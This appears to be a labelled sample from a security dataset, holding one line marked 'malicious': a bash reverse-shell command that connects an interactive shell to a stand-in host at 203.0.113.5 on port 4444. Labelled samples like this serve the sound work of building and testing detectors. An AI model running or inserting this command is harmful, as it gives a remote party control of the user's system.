# label: malicious
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
